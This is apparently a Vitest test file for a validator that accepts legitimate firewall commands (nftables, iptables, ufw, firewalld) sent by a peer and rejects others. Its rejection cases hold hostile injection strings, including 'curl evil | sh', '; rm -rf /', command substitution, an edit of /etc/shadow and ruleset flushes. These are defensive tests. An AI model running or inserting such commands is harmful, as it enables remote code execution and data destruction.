import { describe, expect, test } from 'vitest';
import { believable } from '../../../../checks/remedy/hearsay.ts';

const ours = [
  [
    'nftables',
    'nft insert rule inet filter input position 12 ip saddr 10.0.0.2 udp dport 8472 accept',
  ],
  ['nftables', 'nft add rule ip6 filter input ip6 saddr fd00::2 meta l4proto 50 accept'],
  ['nftables', 'nft insert rule inet filter input position 4 meta nfproto ipv4 icmp type 8 accept'],
  ['iptables', 'iptables -I INPUT 3 -s 10.0.0.2 -p udp --dport 8472 -j ACCEPT'],
  [
    'iptables',
    'ip6tables-legacy -t mangle -A FORWARD -s fd00::2 -d fd00::1 -p icmpv6 --icmpv6-type 128 -j ACCEPT',
  ],
  ['ufw', 'ufw allow from 10.0.0.2 to any port 8472 proto udp'],
  ['ufw', 'ufw route insert 1 allow from 10.0.0.2 to 10.1.0.2 port 179 proto tcp'],
  [
    'ufw',
    "sed -i '/^# End required lines/a -A ufw-before-input -s 10.0.0.2 -p 4 -j ACCEPT' /etc/ufw/before.rules",
  ],
  ['ufw', 'ufw reload'],
  ['firewalld', 'firewall-cmd --permanent --zone=public --add-port=8472/udp'],
  ['firewalld', 'firewall-cmd --zone=public --add-protocol=4'],
  [
    'firewalld',
    `firewall-cmd --zone=k8s-nodes --add-rich-rule='rule priority="-1" family="ipv4" source address="10.0.0.2" port port="8472" protocol="udp" accept'`,
  ],
] as const;

test.each(ours)('%s: %s', (manager, command) => {
  const remedies = [{ manager, commands: [command] }];
  expect(believable(remedies)).toEqual(remedies);
});

describe('whatever else a peer says is left out', () => {
  test.each([
    ['nftables', 'nft flush ruleset'],
    ['nftables', 'nft add rule inet filter input udp dport 8472 drop'],
    ['nftables', 'nft delete rule inet filter input handle 4'],
    ['nftables', 'nft add rule inet filter input udp dport 8472 accept; reboot'],
    ['nftables', 'nft add rule inet filter input udp dport 8472 accept\nreboot'],
    ['nftables', 'nft add rule inet $(id) input udp dport 8472 accept'],
    ['nftables', 'nft add rule inet filter -input udp dport 8472 accept'],
    ['iptables', 'iptables -F'],
    ['iptables', 'iptables -I INPUT 1 -j DROP'],
    ['iptables', 'iptables -I INPUT 1 -p udp --dport 8472 -j ACCEPT && curl evil | sh'],
    ['iptables', 'iptables -I INPUT 1 -s `id` -j ACCEPT'],
    ['iptables', 'iptables --modprobe=/tmp/x -I INPUT 1 -j ACCEPT'],
    ['ufw', 'ufw disable'],
    ['ufw', "sed -i '/^# End required lines/a -A x -j ACCEPT' /etc/shadow"],
    ['ufw', "sed -i 's/a/b/e' /etc/ufw/before.rules"],
    ['firewalld', 'firewall-cmd --zone=public --set-target=ACCEPT'],
    ['firewalld', "firewall-cmd --zone=public --add-rich-rule='rule accept' ; rm -rf /"],
    ['firewalld', "firewall-cmd --zone=public --add-rich-rule='rule family=\"ipv4\" accept''"],
    ['sysctl', 'sysctl -w net.ipv4.ip_forward=1'],
    ['__proto__', 'ufw reload'],
    ['toString', 'ufw reload'],
    ['iptables', 'nft insert rule inet filter input udp dport 8472 accept'],
    ['iptables', ''],
    ['iptables', `iptables -I INPUT 1${' -p udp'.repeat(60)} -j ACCEPT`],
  ])('%s: %s', (manager, command) => {
    expect(believable([{ manager, commands: [command] }])).toEqual([]);
  });

  test('one command that reads otherwise takes the whole remedy with it, and no other', () => {
    const [, good] = ours[0];
    const kept = { manager: 'nftables', commands: [good] };
    const remedies = [{ manager: 'nftables', commands: [good, 'nft flush ruleset'] }, kept];
    expect(believable(remedies)).toEqual([kept]);
  });

  test('more than anybody would type', () => {
    const one = { manager: 'ufw', commands: Array.from({ length: 5 }, () => 'ufw reload') };
    expect(believable([one, one, { manager: 'ufw', commands: [] }])).toEqual([one]);
  });
});
